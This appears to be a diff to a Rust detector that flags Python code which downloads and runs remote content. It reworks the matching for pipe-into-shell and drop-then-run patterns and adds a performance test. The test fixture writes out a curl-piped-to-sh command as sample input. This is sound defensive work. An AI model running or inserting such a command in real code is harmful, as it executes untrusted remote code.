@@ -108,7 +108,7 @@ fn may_match(file: &TextFile<'_>) -> (bool, bool) {
 /// ([`pysrc::find_at_words`]).
 fn pipe_ranges(file: &TextFile<'_>) -> Vec<(usize, usize)> {
     static STARTS: LazyLock<AhoCorasick> = LazyLock::new(|| pysrc::gate(&GATE_WORDS[..PIPE_WORDS]));
-    pysrc::find_at_words(&PIPE_AT, &PIPE, file, &STARTS)
+    super::net_exfil_endpoint::find_at_sparse_words(&PIPE_AT, &PIPE, file, &STARTS)
 }
 
 /// Running or making executable what was saved.
@@ -132,7 +132,10 @@ static DROP_WORDS: LazyLock<AhoCorasick> = LazyLock::new(|| {
 
 /// `DROP_RUN.captures_iter(text)`, confirmed at the words its matches start with.
 fn drop_runs<'t>(file: &TextFile<'t>) -> impl Iterator<Item = regex::Captures<'t>> {
-    pysrc::captures_at_words(&DROP_RUN_AT, &DROP_RUN, file, &DROP_WORDS)
+    let text = file.text;
+    super::net_exfil_endpoint::find_at_sparse_words(&DROP_RUN_AT, &DROP_RUN, file, &DROP_WORDS)
+        .into_iter()
+        .filter_map(move |(start, _)| DROP_RUN.captures_at(text, start))
 }
 /// Where a downloaded body is saved: the path argument of a save call or of a
 /// write-mode `open`, as an identifier or a string literal.
@@ -985,6 +988,36 @@ mod tests {
             found += check(&text, &text);
         }
         assert!(found > 300, "the random texts assign fetched names: {found}");
+    }
+
+    #[test]
+    fn many_downloader_words_on_one_line_cost_linear_time() {
+        // One line of tens of thousands of `curl `/`wget `/`iwr `: the pipe, drop-then-run and
+        // command patterns read on from each word to the line's end (8 s for 20,000 `curl ` when
+        // each was tried); past 64 words on a line the member is searched whole.
+        let make =
+            |n: usize| format!("import os\nx = '{}'\nos.system('curl https://h/x | sh')\n", "curl wget iwr ".repeat(n));
+        let time = |text: &str| {
+            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
+            let t = std::time::Instant::now();
+            let mut hits = Hits::default();
+            DownloadExecute.scan_text(&file, &mut hits);
+            super::super::net_downloads_file::DownloadsFile.scan_text(&file, &mut hits);
+            let elapsed = t.elapsed();
+            let whole = |re: &Regex| re.find_iter(text).map(|m| (m.start(), m.end())).collect::<Vec<_>>();
+            assert_eq!(pipe_ranges(&file), whole(&PIPE), "pipe");
+            assert_eq!(
+                command_ranges(&file).iter().copied().collect::<Vec<_>>(),
+                whole(&super::super::net_downloads_file::COMMAND),
+                "command"
+            );
+            (elapsed, hits.len())
+        };
+        let (t1, _) = time(&make(5_000));
+        let (t4, found) = time(&make(20_000));
+        assert!(found >= 1, "the pipe into sh is still found");
+        assert!(t4 < std::time::Duration::from_secs(2), "{t4:?} for 20,000");
+        assert!(t4 < t1 * 12 + std::time::Duration::from_millis(100), "5,000 took {t1:?}, 20,000 took {t4:?}");
     }
 
     #[test]
